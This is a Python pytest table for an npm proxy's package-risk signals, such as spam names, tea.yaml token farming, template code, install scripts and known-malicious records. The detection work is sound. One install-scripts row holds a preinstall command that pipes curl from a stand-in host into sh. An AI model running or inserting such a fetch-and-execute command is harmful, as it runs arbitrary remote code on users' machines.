"""Every signal, table-driven: positive and negative rows built from real-shaped facts.

Each row is (signal, facts, expected): `expected` is None when the signal must stay silent, or
(severity, confidence) it must fire with.
"""

from __future__ import annotations

import dataclasses
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from types import MappingProxyType

import pytest

from proxy.detect.campaigns import Cluster, cluster_id
from proxy.detect.facts import Context, OsvHit, PackageFacts, Subject, VersionFacts
from proxy.detect.model import Confidence, Family, Severity
from proxy.detect.signals import (
    SIGNALS,
    boilerplate_manifest,
    campaign,
    cloned_code,
    dependency_ring,
    empty_package,
    filler_code,
    foreign_manifest,
    generated_name,
    install_scripts,
    known_malicious,
    learned_score,
    missing_entry,
    publish_burst,
    script_entry,
    spam_name,
    stub_code,
    tea_wallet_reuse,
    tea_yaml,
    template_code,
    trivial_code,
    unsafe_tarball,
    unused_dependencies,
    young_package,
)
from proxy.npm.tarball import EntryKind, Problem, ProblemKind, TarEntry
from proxy.npm.teafile import parse_tea
from tests.detect.helpers import name_only, renamed, subject, with_tarball

H, M, L, C = Severity.HIGH, Severity.MEDIUM, Severity.LOW, Severity.CRITICAL
HC, MC, LC = Confidence.HIGH, Confidence.MEDIUM, Confidence.LOW
NOW = datetime(2024, 3, 1, tzinfo=UTC)
Build = Callable[[], Subject]


DATA_PACKAGE = [
    {"path": "package/README.md", "size": 4_000, "sha256": "1" * 64},
    {"path": "package/db.json", "size": 180_000, "sha256": "2" * 64},
    {"path": "package/package.json", "size": 600, "sha256": "3" * 64},
]


def established(s: Subject) -> Subject:
    """`s` with a release history of twelve versions."""
    versions = {f"1.0.{i}": VersionFacts(f"1.0.{i}") for i in range(12)}
    return dataclasses.replace(s, package=dataclasses.replace(s.package, versions=versions))


def ctx(**kw: object) -> Context:
    return dataclasses.replace(Context(), **kw)  # type: ignore[arg-type]


def tea_moved(path: str) -> Subject:
    s = subject("uniset")
    assert s.tarball is not None
    tea = parse_tea(path, "codeOwners:\n  - '0x723332A6f259f8457e71a346566466036a5Eb3C8'\n")
    return with_tarball(s, tea_files=(tea,))


def timed(versions: dict[str, datetime], created: datetime | None = None) -> Subject:
    vs = {v: VersionFacts(v, published=t) for v, t in versions.items()}
    package = PackageFacts("fast-pub", versions=MappingProxyType(vs), created=created)
    return Subject(package, None, None, ctx(now=NOW))


def minutes(*spec: tuple[str, int]) -> dict[str, datetime]:
    return {v: NOW - timedelta(days=30) + timedelta(minutes=m) for v, m in spec}


def scripts(pj_scripts: dict[str, str]) -> Subject:
    s = subject("@babel/code-frame")
    assert s.tarball is not None
    assert s.tarball.package_json is not None
    return with_tarball(s, package_json={**s.tarball.package_json, "scripts": pj_scripts})


def hit(category: str) -> OsvHit:
    return OsvHit(
        "LWA-2026-10086", ("MAL-2026-12067",), "Malicious code in hwi-lib (npm)", category
    )


def problems(*kinds: ProblemKind) -> Subject:
    return with_tarball(
        subject("client-only"), problems=tuple(Problem(k, "package/x", "test") for k in kinds)
    )


PACKAGE_JSON: dict[str, str | int] = {
    "path": "package/package.json",
    "size": 300,
    "sha256": "4" * 64,
}
TYPES_STUB_README = (
    "This is a stub types definition for uniset. uniset provides its own type definitions, "
    "so you do not need this installed.\n"
)


def with_files(s: Subject, *extra: dict[str, str | int]) -> Subject:
    assert s.tarball is not None
    added = (
        TarEntry(str(e["path"]), EntryKind.FILE, int(e["size"]), str(e["sha256"])) for e in extra
    )
    entries = (*s.tarball.entries, *added)
    return with_tarball(s, entries=entries, package_json={"name": s.name, "version": "1.0.0"})


def with_readme(s: Subject, text: str) -> Subject:
    return with_tarball(s, readme_text=text)


def without_package_json(s: Subject) -> Subject:
    assert s.tarball is not None
    kept = tuple(e for e in s.tarball.entries if not e.path.endswith("/package.json"))
    return with_tarball(s, entries=kept, package_json=None, package_json_path=None)


def with_package_json(s: Subject, **fields: object) -> Subject:
    assert s.tarball is not None
    return with_tarball(s, package_json={**(s.tarball.package_json or {}), **fields})


def template_root(s: Subject) -> Subject:
    """A monorepo uploaded as it is: the tarball's package.json is the template's private root."""
    return with_package_json(s, name="@metamask/template-snap-monorepo", private=True)


def npm_init(s: Subject) -> Subject:
    test = 'echo "Error: no test specified" && exit 1'
    return with_package_json(s, description="", author="", scripts={"test": test})


def edited_app(s: Subject) -> Subject:
    """A create-next-app scaffold whose page and layout were rewritten a little."""
    assert s.tarball is not None
    page = "export default function Page() { return <main>gm</main>; }\n"
    edited = {p: (page if "/src/" in p else t) for p, t in s.tarball.sources.items()}
    entries = tuple(
        dataclasses.replace(e, size=len(page)) if "/src/" in e.path else e
        for e in s.tarball.entries
    )
    return with_tarball(s, sources=edited, entries=entries)


def with_own_code(s: Subject, size: int) -> Subject:
    assert s.tarball is not None
    path = f"{s.tarball.root}/lib/own.js"
    entries = (*s.tarball.entries, TarEntry(path, EntryKind.FILE, size, "5" * 64))
    return with_tarball(s, entries=entries, sources={**s.tarball.sources, path: "x = 1;\n" * 500})


def swc_counter() -> Subject:
    """@swc/counter@0.1.3's shape: an empty index.js, a README that says what it is for."""
    s = subject("client-only")
    assert s.tarball is not None
    entries = tuple(e for e in s.tarball.entries if not e.path.endswith("error.js"))
    return with_tarball(
        s, entries=entries, sources={"package/index.js": ""}, readme_text="# counter\n" * 3
    )


SWC_README = """# @swc/couter

Download counter for swc packages.

This package does not contain any code. It is used solely to track number of downloads of npm
packages like `@swc/core` and `@next/swc`.
"""


def swc_counter_0_1_3(readme: str = SWC_README) -> Subject:
    """@swc/counter@0.1.3 as published: index.js prints a line; the README says why."""
    s = swc_counter()
    text = 'console.log("download-counter/index.js");\n'
    assert s.tarball is not None
    entries = tuple(
        dataclasses.replace(e, size=len(text)) if e.path == "package/index.js" else e
        for e in s.tarball.entries
    )
    return with_tarball(s, entries=entries, sources={"package/index.js": text}, readme_text=readme)


def cluster(size: int, **links: int) -> Cluster:
    members = ("xcho", *(f"farm-{i}" for i in range(size - 1)))
    return Cluster(cluster_id(members), tuple(sorted(members)), links, True)


def polyfill() -> Subject:
    text = "if (!globalThis.fetch) { globalThis.fetch = function fetch() {}; }\n"
    return with_tarball(subject("nomind-big-integer"), sources={"package/bigInteger.js": text})


def sources(text: str) -> Subject:
    s = subject("nomind-big-integer")
    return with_tarball(s, sources={"package/bigInteger.js": text}, sources_complete=True)


DETECTIVE = """class Detective {
    isSuspicious(transaction) {
        // Placeholder for suspicious transaction logic
        return false;
    }
}
module.exports = new Detective();
"""


OWN_LOGIC = """const BigNumber = require("bignumber.js");
function add(a, b) {
  if (a === undefined) throw new TypeError("a is required");
  return new BigNumber(a).plus(new BigNumber(b)).toString();
}
module.exports = { add };
"""


def in_tests(text: str) -> Subject:
    """The placeholder text in a test file, beside the package's real entry point."""
    s = subject("nomind-big-integer")
    assert s.tarball is not None
    path = "package/test/stub.js"
    entries = (*s.tarball.entries, TarEntry(path, EntryKind.FILE, len(text), "6" * 64))
    return with_tarball(s, entries=entries, sources={**s.tarball.sources, path: text})


TABLE: list[tuple[object, Build, tuple[Severity, Confidence] | None]] = [
    # stub-code
    (stub_code, lambda: sources(DETECTIVE), (M, LC)),
    (stub_code, lambda: sources("/* TODO: implement */\nmodule.exports = () => 0;\n"), (M, LC)),
    (stub_code, lambda: sources("// Implement additional logic here\nexports.run = f;\n"), (M, LC)),
    (stub_code, lambda: sources("function f() {\n  // your code goes here\n}\n"), (M, LC)),
    (stub_code, lambda: subject("nomind-big-integer"), None),  # small and real
    (stub_code, lambda: sources("throw new Error('fs is not implemented in the browser');"), None),
    (stub_code, lambda: sources("const placeholder = '%s'; // the placeholder's mark\n"), None),
    (stub_code, lambda: with_own_code(sources(DETECTIVE), 9000), None),  # a large package
    (stub_code, lambda: in_tests(DETECTIVE), None),  # a test's stub
    (stub_code, lambda: name_only("crypto-hacker-detective"), None),
    # tea-yaml
    (tea_yaml, lambda: subject("uniset"), (H, HC)),
    (tea_yaml, lambda: subject("constitution"), (H, HC)),  # tea.yml, several wallets
    (tea_yaml, lambda: subject("xcho"), (H, HC)),  # package.json in a subfolder
    (tea_yaml, lambda: subject("stankpoll"), (H, MC)),  # tea.yaml without a wallet
    # a maintainer's registration of a long-lived project (brace-expansion 4.0.1's shape)
    (tea_yaml, lambda: established(subject("uniset")), (M, LC)),
    (tea_yaml, lambda: tea_moved("package/test/fixtures/tea.yaml"), (M, LC)),
    (tea_yaml, lambda: subject("@babel/code-frame"), None),
    (tea_yaml, lambda: name_only("uniset"), None),
    # tea-wallet-reuse
    (
        tea_wallet_reuse,
        lambda: subject("uniset", ctx(wallet_names={"0xabc": ("a", "b", "c")})),
        (H, HC),
    ),
    (tea_wallet_reuse, lambda: subject("uniset", ctx(wallet_names={"0xabc": ("a",)})), (M, HC)),
    (
        tea_wallet_reuse,
        lambda: established(subject("uniset", ctx(wallet_names={"0xabc": ("a", "b", "c")}))),
        (L, HC),
    ),
    (tea_wallet_reuse, lambda: subject("uniset"), None),
    # spam-name
    (spam_name, lambda: name_only("free-robux-generator-2024-no-human-verification"), (H, HC)),
    (spam_name, lambda: name_only("watch-dune-part-two-online-free-fullmovies-at-home"), (H, HC)),
    (spam_name, lambda: name_only("ver-oppenheimer-pelicula-completa-en-espanol-latino"), (H, HC)),
    (spam_name, lambda: name_only("stream-online-hd"), (M, LC)),
    (spam_name, lambda: name_only("@fortawesome/free-solid-svg-icons"), None),
    (spam_name, lambda: name_only("get-stream"), None),
    (spam_name, lambda: name_only("jest-watch-typeahead"), None),
    # trivial-code
    (trivial_code, lambda: subject("uniset"), None),  # README + tea.yaml only: empty-package
    (trivial_code, swc_counter, (M, LC)),  # an empty index.js alone: weak, never a warning
    (trivial_code, swc_counter_0_1_3, None),  # prints a line; its README: no code, on purpose
    (trivial_code, lambda: swc_counter_0_1_3("# counter\n"), (M, MC)),  # undeclared: a shell
    (script_entry, swc_counter_0_1_3, None),
    (script_entry, lambda: swc_counter_0_1_3("# counter\n"), (M, LC)),
    (
        trivial_code,
        lambda: with_tarball(
            subject("nomind-big-integer"),
            sources={"package/bigInteger.js": "!function(){\n    console.log(`2333333`)\n}()\n"},
        ),
        (M, MC),  # a greeting wrapped in a function that runs at once
    ),
    (trivial_code, lambda: subject("client-only"), (L, MC)),  # a marker package: tiny code
    (trivial_code, lambda: subject("client-only", files=DATA_PACKAGE), (L, MC)),  # mime-db
    (  # client-only's real shape: an empty index.js beside a file that throws
        trivial_code,
        lambda: with_tarball(
            subject("client-only"),
            sources={"package/index.js": "", "package/error.js": "throw new Error('x');\n"},
        ),
        (L, MC),
    ),
    (trivial_code, lambda: subject("@babel/code-frame"), None),
    (trivial_code, lambda: subject("nomind-big-integer"), (M, LC)),  # wraps bignumber.js
    (trivial_code, lambda: sources(OWN_LOGIC), None),  # a wrapper with logic of its own
    (
        trivial_code,
        lambda: with_tarball(
            subject("nomind-big-integer"),
            sources={"package/bigInteger.js": "console.log('hello world');\n"},
        ),
        (M, MC),
    ),
    (
        trivial_code,
        lambda: subject("client-only", packument=None, files=None, texts=None),
        None,
    ),
    # cloned-code
    (
        cloned_code,
        lambda: subject("xcho", ctx(clone_names=("a", "b", "c"), clone_share=1.0, clone_files=8)),
        (H, MC),
    ),
    (
        cloned_code,
        lambda: subject("xcho", ctx(clone_names=("kopiliong",), clone_share=0.9, clone_files=8)),
        (L, MC),  # one other name: a fork or a rename
    ),
    (
        cloned_code,
        lambda: subject("xcho", ctx(clone_names=("a",), clone_share=0.5, clone_files=8)),
        None,
    ),
    (
        cloned_code,
        lambda: subject("xcho", ctx(clone_names=("a",), clone_share=1.0, clone_files=1)),
        None,
    ),
    (cloned_code, lambda: subject("xcho"), None),
    # campaign
    (campaign, lambda: subject("xcho", ctx(campaign=cluster(4, code=3, wallet=1))), (H, MC)),
    (campaign, lambda: subject("xcho", ctx(campaign=cluster(3, name=1))), (M, LC)),  # names only
    (campaign, lambda: subject("xcho", ctx(campaign=cluster(2, code=5))), (L, LC)),  # a pair
    (campaign, lambda: subject("xcho", ctx(campaign=cluster(1))), None),
    (campaign, lambda: subject("xcho"), None),  # not a member
    # learned-score (the shipped model; its tiers are tested in test_learned.py)
    (learned_score, lambda: subject("xcho"), (H, MC)),
    (learned_score, lambda: subject("@babel/code-frame"), None),
    # empty-package
    (empty_package, lambda: subject("uniset"), (H, HC)),  # README stub, no package.json
    (empty_package, lambda: subject("hybirdy"), (H, HC)),  # nothing but tea.yaml
    (empty_package, lambda: with_files(subject("uniset"), PACKAGE_JSON), (H, MC)),
    (empty_package, lambda: with_readme(subject("uniset"), TYPES_STUB_README), None),
    (empty_package, lambda: subject("mime-db"), None),  # a data package
    (empty_package, lambda: subject("@babel/helper-globals"), None),
    (empty_package, lambda: subject("@babel/code-frame"), None),
    (empty_package, lambda: name_only("uniset"), None),
    # missing-entry
    (missing_entry, lambda: subject("yimiwork_form"), (H, MC)),  # main index.js, no JS at all
    (  # other code, but main names a build that is not there: an unbuilt release
        missing_entry,
        lambda: with_package_json(subject("nomind-big-integer"), main="dist/index.js"),
        (M, LC),
    ),
    (missing_entry, lambda: subject("cliui"), None),  # main missing, but `exports` resolves
    (missing_entry, lambda: without_package_json(subject("nomind-big-integer")), (H, MC)),
    (missing_entry, lambda: subject("@parcel/watcher-linux-x64-glibc"), None),  # main: .node
    (missing_entry, lambda: subject("@types/yargs"), None),  # types only, main ""
    (missing_entry, lambda: subject("nomind-big-integer"), None),
    (missing_entry, lambda: subject("uniset"), None),  # nothing at all: empty-package
    # template-code
    (template_code, lambda: subject("xcho"), (H, MC)),  # create-next-app, unmodified
    (template_code, lambda: subject("kopiliong"), (H, MC)),
    (template_code, lambda: edited_app(subject("xcho")), (M, MC)),  # configs only, no entry
    (template_code, lambda: with_own_code(subject("xcho"), 4_000), None),  # a real package
    (template_code, lambda: subject("@babel/code-frame"), None),
    (template_code, lambda: subject("picomatch"), None),
    # filler-code
    (filler_code, lambda: subject("balladoriel-8396"), (H, MC)),  # utils_controller.json, ...
    (filler_code, lambda: subject("es-errors"), None),  # many tiny one-word modules
    (filler_code, lambda: subject("picomatch"), None),
    (filler_code, lambda: subject("xcho"), None),
    # script-entry
    (script_entry, lambda: subject("dio-cronos-tea"), (M, LC)),  # sends tokens, exports nothing
    (script_entry, lambda: with_package_json(subject("dio-cronos-tea"), bin="index.js"), None),
    (script_entry, lambda: subject("@babel/code-frame"), None),  # a module
    (script_entry, lambda: subject("nomind-big-integer"), None),  # module.exports = {...}
    (script_entry, lambda: subject("client-only"), None),  # an empty entry: a marker
    (script_entry, lambda: subject("cliui"), None),  # its entry is not in the package
    (script_entry, lambda: polyfill(), None),  # sets a global
    # foreign-manifest
    (foreign_manifest, lambda: template_root(subject("nomind-big-integer")), (M, LC)),
    (foreign_manifest, lambda: subject("xcho"), (M, LC)),  # create-next-app: "private": true
    (foreign_manifest, lambda: with_package_json(subject("xcho"), private=False), None),
    (foreign_manifest, lambda: with_package_json(subject("xcho"), private="yes"), None),
    (
        foreign_manifest,
        lambda: with_package_json(subject("nomind-big-integer"), name="my-app"),
        (M, LC),
    ),
    (foreign_manifest, lambda: with_package_json(subject("nomind-big-integer"), name=""), None),
    (foreign_manifest, lambda: subject("nomind-big-integer"), None),
    (foreign_manifest, lambda: subject("@babel/code-frame"), None),  # scoped, its own name
    (foreign_manifest, lambda: subject("uniset"), None),  # no package.json
    # boilerplate-manifest
    (boilerplate_manifest, lambda: npm_init(subject("nomind-big-integer")), (M, LC)),
    (boilerplate_manifest, lambda: subject("nomind-big-integer"), None),  # test script only
    (boilerplate_manifest, lambda: subject("@babel/code-frame"), None),
    (boilerplate_manifest, lambda: subject("uniset"), None),  # no package.json
    # generated-name
    (generated_name, lambda: name_only("damp_spoonbill_coral-60"), (M, MC)),
    (generated_name, lambda: name_only("brisk_otter_k9x"), (M, MC)),
    (generated_name, lambda: name_only("updated-tricks-2qq4p45gt"), (M, MC)),
    (generated_name, lambda: name_only("balladoriel-8396"), (M, LC)),
    (generated_name, lambda: name_only("-pem-misa"), (M, LC)),
    (generated_name, lambda: name_only("@solana-program/token-2022"), None),
    (generated_name, lambda: name_only("secp256k1"), None),
    (generated_name, lambda: name_only("i18next"), None),
    (generated_name, lambda: name_only("lodash._baseflatten"), None),
    # dependency-ring
    (
        dependency_ring,
        lambda: subject("nomind-big-integer", ctx(flagged_dependencies={"bignumber.js": "spam"})),
        (L, MC),  # one flagged dependency: a victim, not a ring
    ),
    (
        dependency_ring,
        lambda: with_package_json(
            subject("nomind-big-integer", ctx(flagged_dependencies={"a-x": "spam", "b-x": "spam"})),
            dependencies={"a-x": "1", "b-x": "1", "bignumber.js": "9"},
        ),
        (H, MC),
    ),
    (  # one spam dependency among five: a victim
        dependency_ring,
        lambda: with_package_json(
            subject("nomind-big-integer", ctx(flagged_dependencies={"a-x": "spam", "b-x": "spam"})),
            dependencies={"a-x": "1", "b-x": "1", "c": "1", "d": "1", "e": "1"},
        ),
        (L, MC),
    ),
    # the code-derived traits are unused-dependencies' now: no graph, no ring
    (dependency_ring, lambda: subject("yimiwork_form"), None),
    (dependency_ring, lambda: subject("dio-cronos-tea"), None),
    (dependency_ring, lambda: renamed(subject("nomind-big-integer"), "bignumber.js"), (L, HC)),
    (
        dependency_ring,
        lambda: subject("nomind-big-integer", ctx(dependency_cycles=(("a", "b", "a"),))),
        (L, MC),  # monorepo families have cycles too
    ),
    (  # a dependency flagged malicious is blocked on its own; it does not spread
        dependency_ring,
        lambda: subject(
            "nomind-big-integer", ctx(flagged_dependencies={"bignumber.js": "malicious"})
        ),
        None,
    ),
    (dependency_ring, lambda: subject("nomind-big-integer"), None),  # nothing in the graph
    (dependency_ring, lambda: name_only("nomind-big-integer", "1.0.0"), None),
    # unused-dependencies
    (unused_dependencies, lambda: subject("yimiwork_form"), (M, LC)),  # deps, no code to use them
    (unused_dependencies, lambda: subject("dio-cronos-tea"), (M, LC)),  # imports 1 of 18 deps
    (unused_dependencies, lambda: sources("module.exports = 42;\n" * 20), (L, LC)),
    (unused_dependencies, lambda: sources("const B = require('bignumber.js');\n"), None),
    (unused_dependencies, lambda: sources("import B from 'bignumber.js/dist';\n"), None),
    (unused_dependencies, lambda: subject("nomind-big-integer"), None),  # sources unknown
    (unused_dependencies, lambda: name_only("yimiwork_form"), None),  # no tarball read
    (  # no dependencies declared: nothing to use
        unused_dependencies,
        lambda: with_package_json(subject("yimiwork_form"), dependencies={}),
        None,
    ),
    (  # imports 2 of 5: not inflation, and it uses what it imports
        unused_dependencies,
        lambda: with_package_json(
            sources("const a = require('a-x');\nconst b = require('b-x');\n"),
            dependencies={"a-x": "1", "b-x": "1", "c": "1", "d": "1", "e": "1"},
        ),
        None,
    ),
    (  # imports 1 of 5: inflation
        unused_dependencies,
        lambda: with_package_json(
            sources("const a = require('a-x');\nmodule.exports = a;\n"),
            dependencies={"a-x": "1", "b-x": "1", "c": "1", "d": "1", "e": "1"},
        ),
        (M, LC),
    ),
    (  # a flagged dependency is the ring's question, not this one's
        unused_dependencies,
        lambda: dataclasses.replace(
            sources("const B = require('bignumber.js');\n"),
            context=ctx(flagged_dependencies={"bignumber.js": "spam"}),
        ),
        None,
    ),
    # publish-burst
    # a burst alone, or random numbering alone, is weak (legitimate release trains do both)
    (publish_burst, lambda: timed(minutes(*((f"1.0.{i}", i * 3) for i in range(6)))), (L, MC)),
    (
        publish_burst,
        lambda: timed(
            minutes(("4.2.7", 0), ("1.2.34", 2), ("9.2.60", 4), ("5.2.7", 6), ("2.9.1", 8))
        ),
        (M, HC),
    ),
    (
        publish_burst,
        lambda: timed(minutes(("4.2.7", 0), ("1.2.34", 900), ("9.2.60", 1900), ("5.2.7", 2900))),
        (L, MC),
    ),
    (publish_burst, lambda: timed(minutes(*((f"1.{i}.0", i * 10_000) for i in range(8)))), None),
    (publish_burst, lambda: subject("@babel/code-frame"), None),  # times unknown
    # young-package
    (young_package, lambda: timed({"1.0.0": NOW}, created=NOW - timedelta(hours=5)), (L, HC)),
    (young_package, lambda: timed({"1.0.0": NOW}, created=NOW - timedelta(days=400)), None),
    (young_package, lambda: subject("@babel/code-frame"), None),
    # install-scripts
    (install_scripts, lambda: scripts({"postinstall": "node-gyp rebuild"}), (L, HC)),
    (install_scripts, lambda: scripts({"preinstall": "curl -s http://x.invalid/a | sh"}), (M, HC)),
    (install_scripts, lambda: scripts({"test": "jest", "prepare": "tsc"}), None),
    (install_scripts, lambda: subject("@babel/code-frame"), None),
    # known-malicious
    (known_malicious, lambda: name_only("hwi-lib", "1.0.2", ctx(osv=(hit("malware"),))), (C, HC)),
    (known_malicious, lambda: name_only("hwi-lib", "1.0.2", ctx(osv=(hit("spam"),))), (H, HC)),
    (known_malicious, lambda: name_only("hwi-lib", "1.0.2"), None),
    # unsafe-tarball
    (unsafe_tarball, lambda: problems(ProblemKind.PATH_TRAVERSAL), (H, HC)),
    (unsafe_tarball, lambda: problems(ProblemKind.DEVICE), (H, HC)),
    (unsafe_tarball, lambda: problems(ProblemKind.LINK), (L, HC)),
    (unsafe_tarball, lambda: problems(ProblemKind.RATIO), (M, HC)),
    (unsafe_tarball, lambda: problems(ProblemKind.FILE_TOO_LARGE), (L, HC)),  # @next/swc-*
    (unsafe_tarball, lambda: problems(ProblemKind.TIMEOUT), (L, HC)),  # next on a busy machine
    (unsafe_tarball, lambda: problems(ProblemKind.TOO_MANY_ENTRIES), (M, HC)),
    (unsafe_tarball, lambda: subject("client-only"), None),
]


@pytest.mark.parametrize(
    ("module", "build", "expected"),
    TABLE,
    ids=[f"{m.SPEC.id}-{i}" for i, (m, _, _) in enumerate(TABLE)],  # type: ignore[attr-defined]
)
def test_signal(module: object, build: Build, expected: tuple[Severity, Confidence] | None) -> None:
    spec = module.SPEC  # type: ignore[attr-defined]
    finding = module.check(build())  # type: ignore[attr-defined]
    if expected is None:
        assert finding is None
        return
    assert finding is not None
    assert finding.signal_id == spec.id
    assert (finding.severity, finding.confidence) == expected
    assert finding.reason
    assert not finding.reason[0].isupper()
    assert "\n" not in finding.reason
    assert isinstance(finding.evidence, dict)


def test_every_signal_has_rows_both_ways() -> None:
    by_id: dict[str, set[bool]] = {}
    for module, _, expected in TABLE:
        by_id.setdefault(module.SPEC.id, set()).add(expected is None)  # type: ignore[attr-defined]
    assert set(by_id) == {spec.id for spec, _ in SIGNALS}
    assert all(v == {True, False} for v in by_id.values()), by_id


def test_registry_is_documented_and_unique() -> None:
    import sys

    ids = [spec.id for spec, _ in SIGNALS]
    assert len(ids) == len(set(ids))
    for spec, check in SIGNALS:
        doc = sys.modules[check.__module__].__doc__ or ""
        assert doc.startswith(f"{spec.id}:"), spec.id
        assert "Known false positives" in doc, spec.id


def test_spam_osv_record_is_spam_family() -> None:
    f = known_malicious.check(name_only("x", "1.0.0", ctx(osv=(hit("spam"),))))
    assert f is not None
    assert f.family is Family.SPAM
    f = known_malicious.check(name_only("x", "1.0.0", ctx(osv=(hit("malware"),))))
    assert f is not None
    assert f.family is Family.MALWARE
